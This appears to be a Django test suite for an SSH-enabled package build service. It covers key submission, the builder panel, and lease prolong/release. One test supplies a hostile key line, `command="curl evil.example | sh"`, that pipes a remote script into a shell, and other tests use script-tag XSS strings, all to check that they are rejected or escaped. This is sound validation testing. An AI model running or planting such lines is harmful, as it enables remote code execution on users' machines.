"""Web pages of SSH builds: resubmit with SSH, the SSH builder panel, prolong and release."""

from __future__ import annotations

import re
import subprocess
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client, TestCase
from django.utils import timezone
from django.utils.html import escape

from builders.models import Builder, Lease
from builders.providers import generate_host_key
from builders.services.access import host_key_fingerprint
from builds import services, storage
from builds.models import Build, BuildChroot, Chroot, Project, SrpmPhase, State
from builds.sources import check_upload
from builds.templatetags.builds_tags import format_time
from keys.services import add_saved_key
from tests.builders.factories import make_builder, make_lease
from tests.fakes import KeyServer

LOGIN_URL = "/accounts/login/"
CHROOTS = ["fedora-42-x86_64", "fedora-rawhide-x86_64"]
DEMO_SPEC = Path(__file__).resolve().parents[2] / "builds" / "demo" / "hello-coprssh.spec"
TIME_RE = r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC"


def build_url(build_id: int, action: str = "") -> str:
    return f"/builds/{build_id}/{action}"


def ssh_url(build_id: int) -> str:
    return build_url(build_id, "resubmit-ssh/")


def lease_url(lease_id: int, action: str) -> str:
    return f"/ssh-builders/{lease_id}/{action}/"


# --- keys made by ssh-keygen ------------------------------------------------------------


@dataclass(frozen=True)
class Key:
    public: str  # the .pub line: `type base64 comment`
    private: str
    fingerprint: str


def _keygen(directory: Path, name: str, comment: str) -> Key:
    path = directory / name
    subprocess.run(
        ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", comment, "-f", str(path)],
        check=True,
        capture_output=True,
    )
    listed = subprocess.run(
        ["ssh-keygen", "-l", "-E", "sha256", "-f", f"{path}.pub"], check=True, capture_output=True, text=True
    ).stdout.split()
    return Key(Path(f"{path}.pub").read_text().strip(), path.read_text(), listed[1])


@pytest.fixture(scope="session")
def keys_dir(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("ssh-keys")


@pytest.fixture(scope="session")
def key(keys_dir) -> Key:
    return _keygen(keys_dir, "laptop", "alice@laptop")


@pytest.fixture(scope="session")
def second_key(keys_dir) -> Key:
    return _keygen(keys_dir, "desktop", "alice@desktop")


@pytest.fixture(scope="session")
def script_key(keys_dir) -> Key:
    return _keygen(keys_dir, "script", "<script>alert('key')</script>")


@pytest.fixture
def github(key_server, key) -> KeyServer:
    """A loopback stand-in for github.com/<user>.keys: `alice` has `key`, anyone else is unknown."""
    key_server.github("alice", key)
    return key_server


# --- projects and builds ------------------------------------------------------------------


@pytest.fixture(autouse=True)
def storage_dir(settings, tmp_path) -> Path:
    settings.COPRSSH_STORAGE_DIR = tmp_path / "storage"
    settings.COPRSSH_ALLOW_LOCAL_SOURCES = False
    return tmp_path / "storage"


@pytest.fixture
def project(user, db) -> Project:
    assert Chroot.objects.filter(name__in=CHROOTS).count() == 2
    return services.create_project(owner=user, name="hello", chroots=CHROOTS)


@pytest.fixture
def logged_in_client(client, user) -> Client:
    client.force_login(user)
    return client


@pytest.fixture
def other_client(other_user) -> Client:
    client = Client()
    client.force_login(other_user)
    return client


@pytest.fixture
def submit(project, user):
    """A build of the demo spec in alice/hello, as the new-build form makes it."""

    def make() -> Build:
        upload = SimpleUploadedFile("hello-coprssh.spec", DEMO_SPEC.read_bytes())
        with TestCase.captureOnCommitCallbacks(execute=True):
            return services.submit_build(
                project=project, submitter=user, chroots=None, source=check_upload(upload), upload=upload
            )

    return make


def finish(build: Build, srpm: str, chroots: dict[str, str] | None = None) -> Build:
    """End a build by hand (no builder runs here); a succeeded SRPM phase leaves an SRPM and a spec."""
    now = timezone.now()
    if srpm == State.SUCCEEDED:
        folder = storage.ensure_dir(build.srpm.storage_dir)
        (folder / "hello-coprssh-1.0-1.src.rpm").write_bytes(b"srpm")
        (folder / "hello-coprssh.spec").write_bytes(DEMO_SPEC.read_bytes())
        Build.objects.filter(pk=build.pk).update(
            srpm_file=f"{build.srpm.storage_dir}/hello-coprssh-1.0-1.src.rpm",
            spec_file=f"{build.srpm.storage_dir}/hello-coprssh.spec",
            package_name="hello-coprssh",
            package_version="1.0-1",
        )
    SrpmPhase.objects.filter(build=build).update(state=srpm, started_at=now, ended_at=now)
    for name, state in (chroots or {}).items():
        BuildChroot.objects.filter(build=build, chroot__name=name).update(
            state=state, started_at=now, ended_at=now, status_reason=f"{state} here"
        )
    BuildChroot.objects.filter(build=build, state=State.PENDING).update(state=State.SKIPPED, ended_at=now)
    Lease.objects.filter(pk=build.srpm.lease_id).update(state=Lease.State.ENDED, ended_at=now)
    with transaction.atomic():
        services.update_build_state(build.pk)
    build.refresh_from_db()
    return build


@pytest.fixture
def failed_build(submit) -> Build:
    """SRPM built; fedora-42 failed, rawhide succeeded."""
    return finish(
        submit(),
        State.SUCCEEDED,
        {"fedora-42-x86_64": State.FAILED, "fedora-rawhide-x86_64": State.SUCCEEDED},
    )


@pytest.fixture
def ssh_build(logged_in_client, failed_build, key) -> Build:
    """An SSH resubmission of `failed_build` for fedora-42, made through the form."""
    data = {"chroots": ["fedora-42-x86_64"], "ssh_public_keys": key.public}
    # Following the redirect shows (and so consumes) the "submitted" message.
    response = logged_in_client.post(ssh_url(failed_build.pk), data, follow=True)
    new = Build.objects.get(resubmitted_from=failed_build, ssh=True)
    assert response.redirect_chain == [(build_url(new.pk), 302)]
    return new


def ready_lease(build: Build, owner, **lease_fields) -> Lease:
    """Put the chroot phase of an SSH build on an active lease of a builder that is up."""
    builder = make_builder(
        state=Builder.State.LEASED,
        ipv4="192.0.2.10",
        ipv6="2001:db8::10",
        port=2222,
        host_key=generate_host_key().public_line,
        single_use=True,
    )
    lease = make_lease(owner=owner, ssh=True, state=Lease.State.ACTIVE, builder=builder, **lease_fields)
    phase = build.build_chroots.get()
    Lease.objects.filter(pk=phase.lease_id).update(state=Lease.State.ENDED, ended_at=timezone.now())
    BuildChroot.objects.filter(pk=phase.pk).update(lease=lease)
    return lease


def checked(content: str) -> set[str]:
    return set(re.findall(r'<input type="checkbox" name="chroots" value="([^"]+)"[^>]* checked>', content))


def messages_of(response) -> list[str]:
    return [str(m) for m in response.context["messages"]]


# --- the resubmit-with-SSH form -------------------------------------------------------------


@pytest.mark.django_db
def test_ssh_form_preselects_the_failed_chroots_and_shows_the_quota(logged_in_client, failed_build):
    response = logged_in_client.get(ssh_url(failed_build.pk))

    content = response.content.decode()
    assert response.status_code == 200
    assert checked(content) == {"fedora-42-x86_64"}
    assert 'value="fedora-rawhide-x86_64"' in content
    assert '<textarea name="ssh_public_keys"' in content
    assert "0 of 2 SSH builders in use</strong>." in content
    assert "starts as soon as a slot frees" in content
    assert 'data-check-url="/api/v1/keys/check/"' in content
    assert "coprssh/ssh.js" in content
    assert "never kept or published" in content
    # No saved keys: the box is off, and the profile is where to add some.
    assert re.search(r'<input type="checkbox" name="use_saved_keys"[^>]* disabled', content)
    assert "add some on your profile</a>" in content


@pytest.mark.django_db
def test_ssh_form_preselects_every_failed_chroot(logged_in_client, submit):
    build = finish(submit(), State.SUCCEEDED, dict.fromkeys(CHROOTS, State.FAILED))

    content = logged_in_client.get(ssh_url(build.pk)).content.decode()

    assert checked(content) == set(CHROOTS)
    assert "The failed chroots are chosen." in content


@pytest.mark.django_db
def test_ssh_form_of_a_build_where_nothing_failed_preselects_only_the_first_chroot(
    logged_in_client, user, submit, key
):
    build = finish(submit(), State.SUCCEEDED, dict.fromkeys(CHROOTS, State.SUCCEEDED))
    content = logged_in_client.get(ssh_url(build.pk)).content.decode()
    assert checked(content) == {"fedora-42-x86_64"}
    assert "No chroot failed, so only the first one is chosen." in content
    assert "which takes one of your 2 SSH slots" in content

    # Sent as shown, the form takes one SSH builder, not every slot of the user.
    logged_in_client.post(
        ssh_url(build.pk), {"chroots": sorted(checked(content)), "ssh_public_keys": key.public}
    )

    new = Build.objects.get(resubmitted_from=build, ssh=True)
    assert [bc.chroot.name for bc in new.build_chroots.all()] == ["fedora-42-x86_64"]
    assert Lease.objects.filter(owner=user, ssh=True).count() == 1


@pytest.mark.django_db
def test_plain_resubmit_form_of_a_build_where_nothing_failed_still_preselects_every_chroot(
    logged_in_client, submit
):
    build = finish(submit(), State.SUCCEEDED, dict.fromkeys(CHROOTS, State.SUCCEEDED))

    content = logged_in_client.get(build_url(build.pk, "resubmit/")).content.decode()

    assert checked(content) == set(CHROOTS)
    assert "No chroot failed, so all are chosen." in content


@pytest.mark.django_db
def test_ssh_form_counts_the_saved_keys(logged_in_client, user, failed_build, key, second_key):
    add_saved_key(user=user, title="laptop", public_key=key.public)
    add_saved_key(user=user, title="desktop", public_key=second_key.public)

    content = logged_in_client.get(ssh_url(failed_build.pk)).content.decode()

    assert "Use my saved keys (2 keys)" in content
    assert not re.search(r'<input type="checkbox" name="use_saved_keys"[^>]* disabled', content)


@pytest.mark.django_db
def test_ssh_form_names_the_builds_that_hold_the_slots(logged_in_client, failed_build, ssh_build):
    content = logged_in_client.get(ssh_url(failed_build.pk)).content.decode()

    assert (
        f'1 of 2 SSH builders in use</strong>:\n        build <a href="/builds/{ssh_build.pk}/">#{ssh_build.pk}</a>.'
        in content
    )


@pytest.mark.django_db
def test_ssh_form_over_quota_says_the_build_waits(logged_in_client, user, failed_build):
    for _ in range(2):
        make_lease(owner=user, ssh=True, state=Lease.State.WAITING)

    content = logged_in_client.get(ssh_url(failed_build.pk)).content.decode()

    assert "2 of 2 SSH builders in use</strong>:" in content
    assert "this build is accepted but <strong>waits</strong>" in content


@pytest.mark.django_db
def test_ssh_form_is_refused_to_other_users(other_client, failed_build, key):
    assert other_client.get(ssh_url(failed_build.pk)).status_code == 403
    response = other_client.post(ssh_url(failed_build.pk), {"ssh_public_keys": key.public})

    assert response.status_code == 403
    assert Build.objects.count() == 1
    assert not Lease.objects.filter(ssh=True).exists()


@pytest.mark.django_db
@pytest.mark.parametrize("method", ["get", "post"])
def test_ssh_form_sends_anonymous_users_to_log_in(client, failed_build, method):
    response = getattr(client, method)(ssh_url(failed_build.pk))

    assert response.status_code == 302
    assert response["Location"].startswith(f"{LOGIN_URL}?next=")
    assert Build.objects.count() == 1


@pytest.mark.django_db
def test_ssh_form_creates_an_ssh_build_with_the_canonical_key(logged_in_client, user, failed_build, key):
    # A pasted key with spaces around it and a CRLF, as a browser sends it.
    response = logged_in_client.post(
        ssh_url(failed_build.pk),
        {"chroots": ["fedora-42-x86_64"], "ssh_public_keys": f"\r\n  {key.public}  \r\n"},
        follow=True,
    )

    new = Build.objects.get(resubmitted_from=failed_build)
    assert response.redirect_chain == [(build_url(new.pk), 302)]
    assert new.ssh is True
    assert new.ssh_keys == key.public
    assert new.submitter == user
    (phase,) = new.build_chroots.all()
    assert phase.chroot.name == "fedora-42-x86_64"
    assert phase.lease.ssh is True
    assert phase.lease.owner == user
    content = response.content.decode()
    assert f"Build #{new.pk} submitted from #{failed_build.pk} with SSH access for 1 key." in content
    assert (
        "SSH build: results from this builder are never kept or published; only the spec file and the logs are."
        in content
    )
    assert key.fingerprint in content


@pytest.mark.django_db
def test_ssh_form_deploys_the_saved_keys(logged_in_client, user, failed_build, key):
    add_saved_key(user=user, title="laptop", public_key=key.public)

    response = logged_in_client.post(
        ssh_url(failed_build.pk),
        {"chroots": ["fedora-42-x86_64"], "ssh_public_keys": "", "use_saved_keys": "on"},
    )

    assert response.status_code == 302
    new = Build.objects.get(resubmitted_from=failed_build)
    assert new.ssh_keys.split()[:2] == key.public.split()[:2]


@pytest.mark.django_db
def test_ssh_form_fetches_github_keys(logged_in_client, failed_build, github, key):
    response = logged_in_client.post(
        ssh_url(failed_build.pk), {"chroots": ["fedora-42-x86_64"], "ssh_public_keys": "GitHub:alice"}
    )

    assert response.status_code == 302
    new = Build.objects.get(resubmitted_from=failed_build)
    key_type, blob, _ = key.public.split()
    assert new.ssh_keys == f"{key_type} {blob} GitHub:alice"  # the comment says where it came from


@pytest.mark.django_db
def test_ssh_form_names_the_reference_that_failed(logged_in_client, failed_build, github, key):
    text = f"{key.public}\nGitHub:alice GitHub:nobody"

    response = logged_in_client.post(
        ssh_url(failed_build.pk), {"chroots": ["fedora-42-x86_64"], "ssh_public_keys": text}
    )

    assert response.status_code == 400
    (error,) = response.context["form"].errors["ssh_public_keys"]
    assert error.startswith("line 2: GitHub:nobody: ")
    assert Build.objects.count() == 1


@pytest.mark.django_db
@pytest.mark.parametrize("text", ["", "   \r\n\r\n", "# only a comment\n"])
def test_ssh_form_needs_a_key(logged_in_client, failed_build, text):
    response = logged_in_client.post(
        ssh_url(failed_build.pk), {"chroots": ["fedora-42-x86_64"], "ssh_public_keys": text}
    )

    assert response.status_code == 400
    assert "Give at least one public SSH key" in response.content.decode()
    assert Build.objects.count() == 1


@pytest.mark.django_db
def test_ssh_form_refuses_hostile_lines_each_with_its_line_number(
    logged_in_client, failed_build, key, second_key
):
    blob = second_key.public.split()[1]
    text = "\n".join(
        [
            key.public,  # 1: fine
            f'command="curl evil.example | sh" ssh-ed25519 {blob} x',  # 2
            "",  # 3
            *second_key.private.strip().splitlines(),  # 4…: a private key, reported once
            f"ssh-ed25519 {blob} nul\x00here",  # last
        ]
    )
    last = text.count("\n") + 1
    leases = Lease.objects.count()

    response = logged_in_client.post(
        ssh_url(failed_build.pk), {"chroots": ["fedora-42-x86_64"], "ssh_public_keys": text}
    )

    assert response.status_code == 400
    errors = response.context["form"].errors["ssh_public_keys"]
    assert [e.split(":")[0] for e in errors] == ["line 2", "line 4", f"line {last}"]
    assert "options in front of the key" in errors[0]
    assert "this is a PRIVATE key" in errors[1]
    assert "forbidden character U+0000" in errors[2]
    content = response.content.decode()
    for error in errors:
        assert f"<li>{escape(error)}</li>" in content
    # Nothing of the private key is shown back except in the text area the user typed it in.
    assert content.count(second_key.private.strip().splitlines()[1]) == 1
    assert Build.objects.count() == 1
    assert Lease.objects.count() == leases


@pytest.mark.django_db
def test_ssh_form_refuses_a_chroot_of_another_build(logged_in_client, failed_build, key):
    response = logged_in_client.post(
        ssh_url(failed_build.pk), {"chroots": ["epel-9-aarch64"], "ssh_public_keys": key.public}
    )

    assert response.status_code == 400
    assert "Select a valid choice." in response.content.decode()
    assert Build.objects.count() == 1


@pytest.mark.django_db
def test_ssh_form_of_a_running_build_says_why_not(logged_in_client, submit, key):
    build = submit()

    content = logged_in_client.get(ssh_url(build.pk)).content.decode()
    response = logged_in_client.post(
        ssh_url(build.pk), {"chroots": ["fedora-42-x86_64"], "ssh_public_keys": key.public}
    )

    assert f"Build #{build.pk} is still pending" in content
    assert response.status_code == 400
    assert (
        f"Build #{build.pk} is still pending; cancel it or wait until it ends." in response.content.decode()
    )
    assert Build.objects.count() == 1


@pytest.mark.django_db
def test_ssh_form_escapes_key_comments(logged_in_client, failed_build, script_key):
    text = f"{script_key.public}\nnot a key"

    response = logged_in_client.post(
        ssh_url(failed_build.pk), {"chroots": ["fedora-42-x86_64"], "ssh_public_keys": text}
    )

    content = response.content.decode()
    assert response.status_code == 400
    assert "<script>alert" not in content
    assert "&lt;script&gt;alert(&#x27;key&#x27;)&lt;/script&gt;" in content


@pytest.mark.django_db
def test_build_page_escapes_key_comments_and_logs(logged_in_client, failed_build, script_key):
    logged_in_client.post(
        ssh_url(failed_build.pk), {"chroots": ["fedora-42-x86_64"], "ssh_public_keys": script_key.public}
    )
    new = Build.objects.get(resubmitted_from=failed_build)
    phase = new.build_chroots.get()
    storage.backend_log(phase.storage_dir, "<script>alert('log')</script>")
    ready_lease(new, new.submitter)

    content = logged_in_client.get(build_url(new.pk)).content.decode()

    assert "<script>alert" not in content
    assert "&lt;script&gt;alert(&#x27;key&#x27;)&lt;/script&gt;" in content
    assert "alert(&#x27;log&#x27;)" not in content


# --- an SRPM phase that failed ------------------------------------------------------------------


@pytest.mark.django_db
def test_a_failed_srpm_phase_can_be_resubmitted_with_ssh(logged_in_client, submit, key):
    build = finish(submit(), State.FAILED)

    page = logged_in_client.get(build_url(build.pk)).content.decode()
    form = logged_in_client.get(ssh_url(build.pk)).content.decode()
    response = logged_in_client.post(ssh_url(build.pk), {"ssh_public_keys": key.public})

    assert f'href="{ssh_url(build.pk)}" data-show="finished">Resubmit and allow SSH' in page
    assert "only the SRPM phase reruns, on the SSH builder;" in form
    assert 'name="chroots"' not in form
    new = Build.objects.get(resubmitted_from=build)
    assert response["Location"] == build_url(new.pk)
    assert new.ssh is True
    assert new.srpm.lease.ssh is True
    assert set(new.build_chroots.values_list("state", flat=True)) == {State.SKIPPED}
    assert all(bc.lease_id is None for bc in new.build_chroots.all())


# --- buttons -----------------------------------------------------------------------------


@pytest.mark.django_db
def test_only_the_owner_sees_the_ssh_button(logged_in_client, other_client, failed_build):
    assert (
        f'href="{ssh_url(failed_build.pk)}"'
        in logged_in_client.get(build_url(failed_build.pk)).content.decode()
    )
    assert "resubmit-ssh" not in other_client.get(build_url(failed_build.pk)).content.decode()
    assert "resubmit-ssh" not in Client().get(build_url(failed_build.pk)).content.decode()


@pytest.mark.django_db
def test_ssh_button_is_hidden_while_the_build_runs(logged_in_client, submit):
    build = submit()

    content = logged_in_client.get(build_url(build.pk)).content.decode()

    assert f'href="{ssh_url(build.pk)}" data-show="finished" hidden>' in content


# --- the SSH builder panel --------------------------------------------------------------------


@pytest.mark.django_db
def test_ssh_panel_shows_how_to_log_in_when_the_builder_is_ready(logged_in_client, ssh_build, user, key):
    lease = ready_lease(ssh_build, user)
    builder = lease.builder

    content = logged_in_client.get(build_url(ssh_build.pk)).content.decode()

    assert '<code data-ssh-field="ssh_command">ssh -p 2222 root@192.0.2.10</code>' in content
    assert "data-copy>Copy</button>" in content
    assert 'data-ssh-field="host">192.0.2.10<' in content
    assert 'data-ssh-field="port">2222<' in content
    assert 'data-ssh-field="user">root<' in content
    assert 'data-ssh-field="ipv6">2001:db8::10<' in content
    assert f'<li class="mono">{key.fingerprint}</li>' in content
    assert f'data-ssh-field="host_key_fingerprint">{host_key_fingerprint(builder.host_key)}<' in content
    expires = format_time(lease.expires_at)
    assert re.fullmatch(TIME_RE, expires)
    assert f'data-ssh-field="expires_at_display">{expires}</span>' in content
    iso = re.search(r'data-countdown data-expires="([^"]+)"', content)[1]
    assert datetime.fromisoformat(iso) == lease.expires_at.replace(microsecond=0)
    assert (
        f'can be prolonged until <span data-ssh-field="max_expires_at_display">{format_time(lease.max_expires_at)}'
        in content
    )
    assert "then run <code>copr-builder help</code> on the builder" in content
    assert f'action="{lease_url(lease.pk, "prolong")}"' in content
    assert f'action="{lease_url(lease.pk, "release")}"' in content
    assert re.search(r'<span class="state state-ready" data-ssh-field="state">ready</span>', content)


@pytest.mark.django_db
def test_ssh_panel_has_no_controls_for_other_users(other_client, ssh_build, user):
    lease = ready_lease(ssh_build, user)

    for someone in (other_client, Client()):
        content = someone.get(build_url(ssh_build.pk)).content.decode()
        assert '<span class="state state-ready" data-ssh-field="state">ready</span>' in content
        assert "ssh -p 2222 root@192.0.2.10" not in content  # tests/builds/test_ssh_privacy.py
        assert lease_url(lease.pk, "prolong") not in content
        assert lease_url(lease.pk, "release") not in content


@pytest.mark.django_db
def test_ssh_panel_says_a_new_builder_is_coming(logged_in_client, ssh_build):
    content = logged_in_client.get(build_url(ssh_build.pk)).content.decode()

    assert '<span class="state state-provisioning" data-ssh-field="state">provisioning</span>' in content
    assert "A fresh builder is being prepared" in content
    assert '<code data-ssh-field="ssh_command"></code>' in content


@pytest.mark.django_db
def test_ssh_panel_shows_why_a_build_over_quota_waits(logged_in_client, user, failed_build, key):
    holders = [make_lease(owner=user, ssh=True, state=Lease.State.WAITING) for _ in range(2)]
    logged_in_client.post(
        ssh_url(failed_build.pk), {"chroots": ["fedora-42-x86_64"], "ssh_public_keys": key.public}
    )
    new = Build.objects.get(resubmitted_from=failed_build)
    lease = new.build_chroots.get().lease

    content = logged_in_client.get(build_url(new.pk)).content.decode()

    assert lease.state == Lease.State.QUEUED
    assert '<span class="state state-queued" data-ssh-field="state">queued</span>' in content
    assert "2 of 2 SSH builders in use" in lease.queue_reason
    assert f"#{holders[0].pk}" in lease.queue_reason
    assert re.search(
        r'<p class="ssh-reason muted" data-ssh-field="queue_reason">' + re.escape(escape(lease.queue_reason)),
        content,
    )


@pytest.mark.django_db
def test_ssh_panel_says_when_the_builder_is_gone(logged_in_client, ssh_build, user):
    lease = ready_lease(ssh_build, user)
    Lease.objects.filter(pk=lease.pk).update(
        state=Lease.State.ENDED, ended_at=timezone.now(), end_reason=Lease.EndReason.EXPIRED
    )

    content = logged_in_client.get(build_url(ssh_build.pk)).content.decode()

    assert '<span class="state state-ended" data-ssh-field="state">ended</span>' in content
    assert re.search(
        r'This SSH builder is gone: <span data-ssh-field="end">expired, ' + TIME_RE + "</span>", content
    )


@pytest.mark.django_db
def test_state_json_carries_the_ssh_builder_of_each_phase(logged_in_client, ssh_build, user, key):
    lease = ready_lease(ssh_build, user)

    data = logged_in_client.get(build_url(ssh_build.pk, "state.json")).json()

    srpm, chroot = data["phases"]
    assert srpm["ssh"] is None  # the SRPM of the original build is reused: no builder
    ssh = chroot["ssh"]
    assert ssh["lease_id"] == lease.pk
    assert ssh["state"] == "ready"
    assert ssh["ssh_command"] == "ssh -p 2222 root@192.0.2.10"
    assert ssh["queue_reason"] == ""
    assert datetime.fromisoformat(ssh["expires_at"]) == lease.expires_at.replace(microsecond=0)
    assert ssh["expires_at_display"] == format_time(lease.expires_at)
    assert datetime.fromisoformat(ssh["max_expires_at"]) == lease.max_expires_at.replace(microsecond=0)
    assert ssh["key_fingerprints"] == [key.fingerprint]
    assert datetime.fromisoformat(data["now"]).tzinfo is not None


@pytest.mark.django_db
def test_state_json_of_a_build_without_ssh_has_no_ssh_data(client, failed_build):
    data = client.get(build_url(failed_build.pk, "state.json")).json()

    assert [phase["ssh"] for phase in data["phases"]] == [None, None, None]


# --- prolong and release ----------------------------------------------------------------------


@pytest.mark.django_db
def test_owner_prolongs_the_builder_from_the_panel(logged_in_client, ssh_build, user):
    lease = ready_lease(ssh_build, user)
    before = lease.expires_at

    response = logged_in_client.post(lease_url(lease.pk, "prolong"), {"hours": "3"}, follow=True)

    lease.refresh_from_db()
    assert response.redirect_chain == [(build_url(ssh_build.pk), 302)]
    assert lease.expires_at == before + timedelta(hours=3)
    assert messages_of(response) == [
        f"SSH builder prolonged by 3 h: it now expires at {format_time(lease.expires_at)}."
    ]


@pytest.mark.django_db
def test_prolong_past_the_cap_is_refused_naming_the_latest_time(logged_in_client, ssh_build, user):
    lease = ready_lease(ssh_build, user)
    before = lease.expires_at

    response = logged_in_client.post(lease_url(lease.pk, "prolong"), {"hours": "48"}, follow=True)

    lease.refresh_from_db()
    assert lease.expires_at == before
    (message,) = response.context["messages"]
    assert message.level_tag == "error"
    assert f"may live until {format_time(lease.max_expires_at)} at the latest" in str(message)
    assert '<li class="error">Cannot prolong by 48 h' in response.content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize("hours", ["0", "49", "-1", "two", ""])
def test_prolong_wants_whole_hours_from_1_to_48(logged_in_client, ssh_build, user, hours):
    lease = ready_lease(ssh_build, user)
    before = lease.expires_at

    response = logged_in_client.post(lease_url(lease.pk, "prolong"), {"hours": hours}, follow=True)

    lease.refresh_from_db()
    assert lease.expires_at == before
    assert messages_of(response) == ["Prolong by a whole number of hours from 1 to 48."]


@pytest.mark.django_db
def test_owner_releases_the_builder_from_the_panel(logged_in_client, ssh_build, user):
    lease = ready_lease(ssh_build, user)

    response = logged_in_client.post(lease_url(lease.pk, "release"), follow=True)
    again = logged_in_client.post(lease_url(lease.pk, "release"), follow=True)

    lease.refresh_from_db()
    assert response.redirect_chain == [(build_url(ssh_build.pk), 302)]
    assert lease.state == Lease.State.ENDED
    assert lease.end_reason == Lease.EndReason.RELEASED
    assert Builder.objects.get(pk=lease.builder_id).state == Builder.State.TERMINATING
    assert messages_of(response) == ["SSH builder released: it is being removed, with everything on it."]
    assert messages_of(again) == ["This SSH builder had already ended."]
    assert '<span class="state state-ended" data-ssh-field="state">ended</span>' in response.content.decode()


@pytest.mark.django_db
def test_another_user_can_neither_prolong_nor_release(other_client, ssh_build, user):
    lease = ready_lease(ssh_build, user)
    before = lease.expires_at

    assert other_client.post(lease_url(lease.pk, "prolong"), {"hours": "1"}).status_code == 404
    assert other_client.post(lease_url(lease.pk, "prolong"), {"hours": "99"}).status_code == 404
    assert other_client.post(lease_url(lease.pk, "release")).status_code == 404

    lease.refresh_from_db()
    assert lease.state == Lease.State.ACTIVE
    assert lease.expires_at == before


@pytest.mark.django_db
def test_prolong_and_release_of_an_unknown_builder_are_404(logged_in_client, user):
    lease = make_lease(owner=user, ssh=True, state=Lease.State.ACTIVE)  # of no build

    assert logged_in_client.post(lease_url(999999, "prolong"), {"hours": "1"}).status_code == 404
    assert logged_in_client.post(lease_url(999999, "release")).status_code == 404
    assert logged_in_client.post(lease_url(lease.pk, "release")).status_code == 404


@pytest.mark.django_db
@pytest.mark.parametrize("action", ["prolong", "release"])
def test_prolong_and_release_refuse_get(logged_in_client, ssh_build, user, action):
    lease = ready_lease(ssh_build, user)

    assert logged_in_client.get(lease_url(lease.pk, action)).status_code == 405
    response = Client().post(lease_url(lease.pk, action), {"hours": "1"})
    assert response.status_code == 302
    assert response["Location"].startswith(f"{LOGIN_URL}?next=")
    lease.refresh_from_db()
    assert lease.state == Lease.State.ACTIVE
